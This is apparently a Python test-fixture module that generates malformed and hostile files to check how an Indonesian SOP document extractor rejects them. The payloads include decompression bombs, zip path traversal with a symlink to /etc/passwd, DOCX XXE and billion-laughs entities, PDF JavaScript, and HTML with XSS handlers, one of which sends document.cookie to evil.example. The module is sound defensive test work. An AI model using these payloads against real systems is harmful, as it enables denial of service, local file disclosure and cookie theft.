"""The hostile corpus: broken, malicious and odd files, generated into a folder.

Each :class:`Case` is a file and the outcome the product must give it: ``code`` is
the error code (``None`` = it must be read as an SOP). The files are built from
the repository's own corpus (``corpus/sop``) and by hand (minimal PDFs, zips,
DOCX parts), so nothing is downloaded and nothing large is committed.
"""

from __future__ import annotations

import functools
import io
import re
import stat
import sys
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

from PIL import Image
from reportlab.lib.pagesizes import A4
from reportlab.lib.pdfencrypt import StandardEncryption
from reportlab.pdfgen import canvas

ROOT = Path(__file__).resolve().parents[2]
SOP_DIR = ROOT / "corpus" / "sop"
#: The corpus SOP most hostile variants are made from (text, PDF and DOCX renderings).
BASE = "sop-001-dinkes-rekomendasi-sip"
BASE_TITLE = "SOP Penerbitan Rekomendasi Surat Izin Praktik Tenaga Kesehatan"
#: The same title with characters that only survive a correct decoding (cp1252 0x93/0x94/0x96).
ACCENT_TITLE = "SOP Penerbitan Rekomendasi “Surat Izin Praktik” Tenaga Kesehatan – Dinkes"

W_NS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"


@dataclass(frozen=True)
class Case:
    """One hostile file and what must happen to it."""

    name: str  # file name written (the extension is part of the attack for some)
    code: str | None  # the InputError code expected; None = read as an SOP
    what: str  # one line for docs/reliability.md
    http: int | None = None  # the API's status when it differs from the extractor's mapping
    api_code: str | None = None  # the API's error code when it differs (its own precheck)
    slow: bool = False  # several seconds or more to read

    @property
    def status(self) -> int:
        if self.http is not None:
            return self.http
        if self.code is None:
            return 201
        return {"unsupported_type": 415, "too_large": 413}.get(self.code, 422)


# --------------------------------------------------------------------------- building blocks


def base_text() -> str:
    return (SOP_DIR / BASE / f"{BASE}.txt").read_text("utf-8")


def base_pdf() -> bytes:
    return (SOP_DIR / BASE / f"{BASE}.pdf").read_bytes()


def base_docx() -> bytes:
    return (SOP_DIR / BASE / f"{BASE}.docx").read_bytes()


def accented_text() -> str:
    """The base SOP with a title that has cp1252 punctuation (curly quotes, en dash)."""
    return base_text().replace(BASE_TITLE, ACCENT_TITLE, 1)


def letter_pdf(password: str | None = None, pagesize: tuple[float, float] = A4) -> bytes:
    """A one-page official letter: real text, not an SOP."""
    buf = io.BytesIO()
    enc = StandardEncryption(password, ownerPassword="pemilik") if password is not None else None
    c = canvas.Canvas(buf, pagesize=pagesize, encrypt=enc, invariant=1)
    y = pagesize[1] - 60
    for line in (
        "PEMERINTAH KABUPATEN BALANGAN",
        "Paringin, 12 Maret 2024",
        "Nomor: 005/123/Setda/2024",
        "Perihal: Undangan Rapat Koordinasi",
        "Dengan hormat, bersama ini kami mengundang Bapak/Ibu untuk menghadiri rapat",
        "koordinasi pada hari Senin di ruang rapat kantor bupati. Atas perhatiannya",
        "kami ucapkan terima kasih.",
    ):
        c.drawString(60, y, line)
        y -= 18
    c.showPage()
    c.save()
    return buf.getvalue()


def sop_pdf_encrypted(user_password: str) -> bytes:
    """A corpus SOP rendered by the corpus renderer into an encrypted PDF."""
    import tempfile

    if str(ROOT) not in sys.path:  # the corpus renderer lives beside the packages
        sys.path.insert(0, str(ROOT))
    import corpus.render.pdf_render as pdf_render
    from corpus.render.spec import load_spec

    spec = load_spec(SOP_DIR / "specs" / f"{BASE}.yml")
    enc = StandardEncryption(user_password, ownerPassword="pemilik", canModify=0)
    original = pdf_render.Canvas
    pdf_render.Canvas = functools.partial(original, encrypt=enc)  # type: ignore[misc]
    try:
        with tempfile.TemporaryDirectory() as tmp:
            out = Path(tmp) / "enc.pdf"
            pdf_render.render_pdf(spec, out)
            return out.read_bytes()
    finally:
        pdf_render.Canvas = original  # type: ignore[misc]


def raw_pdf(objects: list[bytes], root: int = 1, startxref: int | None = None) -> bytes:
    """A PDF written by hand: numbered objects, a correct xref table (unless told otherwise)."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    for off in offsets:
        out += b"%010d 00000 n \n" % off
    out += b"trailer\n<< /Size %d /Root %d 0 R >>\n" % (len(objects) + 1, root)
    out += b"startxref\n%d\n%%%%EOF\n" % (xref if startxref is None else startxref)
    return bytes(out)


def _stream(content: bytes, compress: bool = False) -> bytes:
    data = zlib.compress(content, 9) if compress else content
    flt = b" /Filter /FlateDecode" if compress else b""
    return b"<< /Length %d%s >>\nstream\n" % (len(data), flt) + data + b"\nendstream"


_FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"
_TEXT = b"BT /F1 12 Tf 72 720 Td (Dasar Hukum: Undang-Undang Nomor 25 Tahun 2009) Tj ET"


def pdf_many_pages(n: int, *, lying_count: bool) -> bytes:
    """``n`` pages: one page object referenced ``n`` times (``/Count n``), or ``n`` distinct
    pages under a page tree whose ``/Count`` says 1."""
    res = b"/Resources << /Font << /F1 3 0 R >> >>"
    if not lying_count:
        kids = b" ".join(b"5 0 R" for _ in range(n))
        return raw_pdf(
            [
                b"<< /Type /Catalog /Pages 2 0 R >>",
                b"<< /Type /Pages /Kids [%s] /Count %d >>" % (kids, n),
                _FONT,
                _stream(_TEXT),
                b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R %s >>" % res,
            ]
        )
    pages = [
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R %s >>" % res
    ] * n
    kids = b" ".join(b"%d 0 R" % (5 + i) for i in range(n))
    return raw_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [%s] /Count 1 >>" % kids,
            _FONT,
            _stream(_TEXT),
            *pages,
        ]
    )


def pdf_one_page(media: str = "0 0 595 842", content: bytes = _TEXT, **kw: object) -> bytes:
    return raw_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [5 0 R] /Count 1 >>",
            _FONT,
            _stream(content, compress=bool(kw.get("compress"))),
            b"<< /Type /Page /Parent 2 0 R /MediaBox [%s] /Contents 4 0 R "
            b"/Resources << /Font << /F1 3 0 R >> >> >>" % media.encode(),
        ],
        startxref=kw.get("startxref"),  # type: ignore[arg-type]
    )


def flate_bomb_pdf(megabytes: int) -> bytes:
    """A one-page PDF whose content stream inflates to ``megabytes`` MB of spaces.

    Built in a second: after a full flush a deflate compressor starts afresh, so one
    compressed megabyte is repeated; only the Adler-32 trailer sees every byte.
    """
    block = b" " * 2**20
    packer = zlib.compressobj(9)
    first = packer.compress(block) + packer.flush(zlib.Z_FULL_FLUSH)
    again = packer.compress(block) + packer.flush(zlib.Z_FULL_FLUSH)
    tail = packer.flush()
    checksum = 1
    for _ in range(megabytes):
        checksum = zlib.adler32(block, checksum)
    data = first + again * (megabytes - 1) + tail[:-4] + checksum.to_bytes(4, "big")
    stream = b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(data) + data + b"\nendstream"
    return raw_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [5 0 R] /Count 1 >>",
            _FONT,
            stream,
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>",
        ]
    )


def pdf_with_javascript(pdf: bytes) -> bytes:
    """An incremental update that adds an ``/OpenAction`` JavaScript action to the catalog."""
    root = int(re.findall(rb"/Root (\d+) 0 R", pdf)[-1])
    prev = int(re.findall(rb"startxref\s+(\d+)", pdf)[-1])
    size = int(re.findall(rb"/Size (\d+)", pdf)[-1])
    body = re.search(rb"\n%d 0 obj\s*(<<.*?>>)\s*endobj" % root, pdf, re.S)
    assert body is not None, "catalog not found"
    catalog = body.group(1)[:-2] + b" /OpenAction %d 0 R >>" % size
    js = b"<< /Type /Action /S /JavaScript /JS (app.alert\\('pwned'\\); this.print\\(\\)) >>"
    out = bytearray(pdf if pdf.endswith(b"\n") else pdf + b"\n")
    off_root = len(out)
    out += b"%d 0 obj\n%s\nendobj\n" % (root, catalog)
    off_js = len(out)
    out += b"%d 0 obj\n%s\nendobj\n" % (size, js)
    xref = len(out)
    out += b"xref\n%d 1\n%010d 00000 n \n%d 1\n%010d 00000 n \n" % (root, off_root, size, off_js)
    out += b"trailer\n<< /Size %d /Root %d 0 R /Prev %d >>\n" % (size + 1, root, prev)
    out += b"startxref\n%d\n%%%%EOF\n" % xref
    return bytes(out)


def png_bomb(width: int = 100_000, height: int = 100_000) -> bytes:
    """A PNG header that declares ``width × height`` pixels, with one tiny IDAT."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        crc = zlib.crc32(kind + data) & 0xFFFFFFFF
        return len(data).to_bytes(4, "big") + kind + data + crc.to_bytes(4, "big")

    ihdr = width.to_bytes(4, "big") + height.to_bytes(4, "big") + bytes([8, 0, 0, 0, 0])
    idat = zlib.compress(b"\x00" * (width + 1) * 4, 9)  # a few rows; the rest never arrive
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", idat) + chunk(b"IEND", b"")


def jpeg(size: tuple[int, int] = (400, 300)) -> bytes:
    buf = io.BytesIO()
    Image.new("RGB", size, (200, 180, 160)).save(buf, format="JPEG")
    return buf.getvalue()


def tiff_pages(n: int) -> bytes:
    """A little-endian TIFF of ``n`` 8×8 bilevel pages, every IFD sharing one strip
    (written by hand: Pillow's multi-page writer takes minutes for 10,000 pages)."""
    header = b"II*\x00" + (8).to_bytes(4, "little")
    strip_at = 8
    strip = b"\xff" * 8
    ifd_start = strip_at + len(strip)
    # (tag, type SHORT=3 / LONG=4, value): width, length, bits, compression none,
    # photometric min-is-black, strip offsets, rows per strip, strip byte counts
    entries = [
        (256, 3, 8),
        (257, 3, 8),
        (258, 3, 1),
        (259, 3, 1),
        (262, 3, 1),
        (273, 4, strip_at),
        (278, 3, 8),
        (279, 4, len(strip)),
    ]
    ifd_size = 2 + 12 * len(entries) + 4
    out = bytearray(header[:4] + ifd_start.to_bytes(4, "little") + strip)
    for i in range(n):
        out += len(entries).to_bytes(2, "little")
        for tag, kind, value in entries:
            out += (
                tag.to_bytes(2, "little") + kind.to_bytes(2, "little") + (1).to_bytes(4, "little")
            )
            out += value.to_bytes(4, "little")
        nxt = ifd_start + (i + 1) * ifd_size if i + 1 < n else 0
        out += nxt.to_bytes(4, "little")
    return bytes(out)


def zip_of(members: dict[str, bytes], level: int = 6) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as zf:
        for name, data in members.items():
            zf.writestr(name, data)
    return buf.getvalue()


def zip_bomb(megabytes: int = 64) -> bytes:
    """One member of ``megabytes`` MB of zeros (~1000:1), beside a real SOP."""
    return zip_of(
        {"dinkes/sop.txt": base_text().encode(), "dinkes/nol.txt": b"\0" * 2**20 * megabytes}, 9
    )


def zip_escape() -> bytes:
    """A zip with ``../`` paths, an absolute path and a symbolic link to /etc/passwd."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        zf.writestr("dinkes/sop.txt", base_text())
        zf.writestr("../../../tmp/sopcheck-escaped.txt", "escaped")
        zf.writestr("/etc/sopcheck-abs.txt", "absolute")
        link = zipfile.ZipInfo("dinkes/passwd.txt")
        link.create_system = 3
        link.external_attr = (stat.S_IFLNK | 0o777) << 16
        zf.writestr(link, "/etc/passwd")
    return buf.getvalue()


_CT = (
    b'<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/'
    b'package/2006/content-types"><Default Extension="rels" ContentType="application/'
    b'vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType='
    b'"application/xml"/><Override PartName="/word/document.xml" ContentType="application/'
    b'vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
)
_RELS = (
    b'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats'
    b'.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxml'
    b'formats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/>'
    b"</Relationships>"
)


def docx_of(document_xml: bytes, extra: dict[str, bytes] | None = None) -> bytes:
    """A minimal DOCX package around ``document_xml``."""
    members = {"[Content_Types].xml": _CT, "_rels/.rels": _RELS, "word/document.xml": document_xml}
    members.update(extra or {})
    return zip_of(members)


def _w_doc(body: str, prolog: str = "") -> bytes:
    return (
        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>{prolog}'
        f'<w:document xmlns:w="{W_NS}"><w:body>{body}</w:body></w:document>'
    ).encode()


def docx_xxe() -> bytes:
    prolog = '<!DOCTYPE w:document [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    return docx_of(_w_doc("<w:p><w:r><w:t>&xxe;</w:t></w:r></w:p>", prolog))


def docx_billion_laughs() -> bytes:
    ents = '<!ENTITY lol "lol">' + "".join(
        f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">'
        for i in range(1, 10)
    )
    return docx_of(_w_doc("<w:p><w:r><w:t>&lol9;</w:t></w:r></w:p>", f"<!DOCTYPE lolz [{ents}]>"))


def docx_paragraphs(n: int) -> bytes:
    """``n`` short numbered paragraphs (varied, so the part compresses like real Word XML)."""
    words = ("berkas", "surat", "data", "arsip", "memo", "nota", "dokumen")
    body = "".join(
        f"<w:p><w:r><w:t>{i} {words[i % 7]} {i * 7919 % 100003}</w:t></w:r></w:p>" for i in range(n)
    )
    return docx_of(_w_doc(body))


def docx_member_bomb() -> bytes:
    """A DOCX whose document.xml inflates to 200 MB of whitespace."""
    xml = _w_doc("<w:p><w:r><w:t>x</w:t></w:r></w:p>").replace(
        b"<w:body>", b"<w:body>" + b" " * (200 * 2**20)
    )
    return docx_of(xml)


def html_with_scripts() -> str:
    """The base SOP as an HTML export with scripts, event handlers and markup in its text."""
    lines = []
    rows: list[str] = []
    for raw in base_text().splitlines():
        if "\t" in raw:
            cells = "".join(f"<td onclick=\"alert('td')\">{c}</td>" for c in raw.split("\t"))
            rows.append(f"<tr>{cells}</tr>")
            continue
        if rows:
            lines.append("<table border=1>" + "".join(rows) + "</table>")
            rows = []
        if raw.strip():
            lines.append(f"<p onmouseover=\"alert('p')\">{raw}</p>")
    if rows:
        lines.append("<table border=1>" + "".join(rows) + "</table>")
    body = "\n".join(lines)
    return (
        "<!DOCTYPE html><html><head><title>SOP</title>"
        "<script>document.location='http://evil.example/?c='+document.cookie</script>"
        "<style>body{display:none}</style></head>"
        '<body onload="alert(1)"><img src=x onerror="alert(2)">'
        "<script>alert('inline')</script><iframe src='javascript:alert(3)'></iframe>"
        f"{body}<p>Catatan &lt;script&gt;alert('teks')&lt;/script&gt;</p></body></html>"
    )


def nested_tables(depth: int) -> str:
    return (
        "<html><body>"
        + "<table><tr><td>Dasar Hukum" * depth
        + "</td></tr></table>" * depth
        + "</body></html>"
    )


def english_sop() -> str:
    """An SOP laid out like the Indonesian format but written in English."""
    return "\n".join(
        [
            "HEALTH OFFICE OF HULU SUNGAI TENGAH REGENCY",
            "",
            " SOP Number : 440/117/SDK/2024",
            " Date of Issue : 14 October 2024",
            " Approved by : Head of the Health Office",
            " SOP Title : Issuing a Recommendation for a Health Worker Practice Licence",
            "",
            "LEGAL BASIS :",
            "1. Law Number 25 of 2009 on Public Services",
            "2. Law Number 17 of 2023 on Health",
            "",
            "IMPLEMENTER QUALIFICATIONS :",
            "1. Understands health worker licensing",
            "",
            "EQUIPMENT :",
            "1. Computer",
            "",
            "WARNING :",
            "If the documents are incomplete the application is returned",
            "",
            "No\tActivity\tApplicant\tFront Desk Officer\tHead of Division\tRequirements"
            "\tTime\tOutput",
            "1\tSubmits the application\tX\t\t\tApplication form\t10 Minutes\tApplication",
            "2\tChecks the documents\t\tX\t\tChecklist\t30 Minutes\tChecked file",
            "3\tSigns the recommendation\t\t\tX\tDraft\t1 Day\tRecommendation",
        ]
    )


# --------------------------------------------------------------------------- the corpus

Builder = Callable[[], bytes]


def _cases() -> list[tuple[Case, Builder]]:
    truncated = lambda: base_pdf()[: len(base_pdf()) // 2]  # noqa: E731
    return [
        (Case("kosong.pdf", "empty_file", "0-byte file"), lambda: b""),
        (Case("terpotong.pdf", "corrupt_pdf", "SOP PDF cut in half"), truncated),
        (
            Case("hanya-kepala.pdf", "corrupt_pdf", "PDF header and %%EOF only"),
            lambda: b"%PDF-1.7\n%%EOF\n",
        ),
        (
            Case("sampah.pdf", "corrupt_pdf", "PDF header followed by random bytes"),
            lambda: b"%PDF-1.4\n" + bytes((i * 7919) % 251 for i in range(20000)),
        ),
        (
            Case("terkunci.pdf", "encrypted_pdf", "PDF encrypted with a user password"),
            lambda: letter_pdf("rahasia"),
        ),
        (
            Case(
                "terkunci-tanpa-sandi.pdf",
                None,
                "SOP PDF encrypted with an empty user password (opens without one)",
                slow=True,
            ),
            lambda: sop_pdf_encrypted(""),
        ),
        (
            Case("5000-halaman.pdf", "too_many_pages", "5,000 pages: one page object × 5,000"),
            lambda: pdf_many_pages(5000, lying_count=False),
        ),
        (
            Case(
                "5000-halaman-count-bohong.pdf",
                "too_many_pages",
                "5,000 page objects under /Count 1",
            ),
            lambda: pdf_many_pages(5000, lying_count=True),
        ),
        (
            Case("halaman-200-inci.pdf", "page_too_large", "one page of 200 × 200 inches"),
            lambda: pdf_one_page("0 0 14400 14400"),
        ),
        (
            Case("mediabox-rusak.pdf", "corrupt_pdf", "MediaBox with a non-number (1e30)"),
            lambda: pdf_one_page("0 0 -595 1e30"),
        ),
        (
            Case("mediabox-raksasa.pdf", "page_too_large", "MediaBox 595 × 99,999,999 pt"),
            lambda: pdf_one_page("0 0 595 99999999"),
        ),
        (
            Case("xref-di-luar.pdf", "not_sop", "startxref points past the end of the file"),
            lambda: pdf_one_page(startxref=10**9),
        ),
        (
            Case("javascript.pdf", None, "SOP PDF with an /OpenAction JavaScript action"),
            lambda: pdf_with_javascript(base_pdf()),
        ),
        (Case("surat.pdf", "not_sop", "valid PDF that is a letter, not an SOP"), letter_pdf),
        (
            Case("bom-flate.pdf", "out_of_memory", "content stream inflating to 3 GB", slow=True),
            lambda: flate_bomb_pdf(3072),
        ),
        (
            Case("bom.png", "image_too_large", "PNG declaring 100,000 × 100,000 px (tiny file)"),
            png_bomb,
        ),
        (
            Case("png-terpotong.png", "corrupt_image", "PNG cut after its header"),
            lambda: png_bomb(2000, 3000)[:60],
        ),
        (Case("foto.pdf", "image_too_small", "JPEG photo (400×300) named .pdf"), jpeg),
        (
            Case("10000-halaman.tif", "too_many_pages", "TIFF with 10,000 pages"),
            lambda: tiff_pages(10_000),
        ),
        (
            Case("bom.zip", "unsupported_type", "zip bomb (64 MB of zeros) uploaded as a document"),
            zip_bomb,
        ),
        (
            Case(
                "keluar.zip", "unsupported_type", "zip with ../ paths, an absolute path, a symlink"
            ),
            zip_escape,
        ),
        (
            Case("xxe.docx", "unsafe_file", "DOCX with an external entity (file:///etc/passwd)"),
            docx_xxe,
        ),
        (
            Case("billion-laughs.docx", "unsafe_file", "DOCX with billion-laughs entities"),
            docx_billion_laughs,
        ),
        (
            Case("bom-anggota.docx", "unsafe_file", "DOCX whose document.xml inflates to 200 MB"),
            docx_member_bomb,
        ),
        (
            Case("zip-sampah.docx", "unsupported_type", "zip of junk renamed .docx"),
            lambda: zip_of({"a.bin": bytes(range(256)) * 8, "b/c.txt": b"junk"}),
        ),
        (
            Case("xml-rusak.docx", "corrupt_docx", "DOCX whose document.xml is cut short"),
            lambda: docx_of(_w_doc("<w:p><w:r><w:t>Dasar Hukum</w:t></w:r></w:p>")[:-40]),
        ),
        (
            Case(
                "100rb-paragraf.docx",
                "too_many_paragraphs",
                "DOCX with 100,000 short paragraphs",
            ),
            lambda: docx_paragraphs(100_000),
        ),
        (
            Case("skrip.html", None, "SOP as HTML with <script>, iframes and on* handlers"),
            lambda: html_with_scripts().encode(),
        ),
        (
            Case("tabel-bersarang.html", "not_sop", "HTML tables nested 3,000 deep"),
            lambda: nested_tables(3000).encode(),
        ),
        (
            Case("utf16.txt", None, "SOP text export in UTF-16 with a BOM"),
            lambda: accented_text().encode("utf-16"),
        ),
        (
            Case("utf16le-tanpa-bom.txt", None, "SOP text export in UTF-16LE without a BOM"),
            lambda: accented_text().encode("utf-16-le"),
        ),
        (
            Case("cp1252.txt", None, "SOP text export in Windows-1252"),
            lambda: accented_text().encode("cp1252"),
        ),
        (
            Case(
                "satu-baris-50mb.txt",
                "not_sop",
                "50 MB on one line",
                http=413,
                api_code="payload_too_large",
            ),
            lambda: b"Dasar Hukum " * (50 * 2**20 // 12),
        ),
        (
            Case("sop-inggris.txt", "not_sop", "SOP laid out in the format but written in English"),
            lambda: english_sop().encode(),
        ),
        (
            Case("program.pdf", "unsupported_type", "ELF executable named .pdf"),
            lambda: b"\x7fELF\x02\x01\x01" + bytes(range(256)) * 16,
        ),
        (
            Case("nul.txt", "unsupported_type", "text full of NUL bytes"),
            lambda: b"Dasar Hukum\x00\x00\x01\x02" * 2000,
        ),
    ]


CASES: list[Case] = [case for case, _ in _cases()]


def build(folder: Path) -> dict[str, Path]:
    """Write every case's file into ``folder``; returns paths by case name."""
    folder.mkdir(parents=True, exist_ok=True)
    paths: dict[str, Path] = {}
    for case, make in _cases():
        path = folder / case.name
        path.write_bytes(make())
        paths[case.name] = path
    return paths


def by_name(name: str) -> Case:
    return next(c for c in CASES if c.name == name)


def message_head(code: str, lang: str) -> str:
    """The fixed start of a message (service or extractor) up to its first placeholder."""
    from api.errors import message

    return message(code, lang).split("(")[0].split("?")[0].strip()
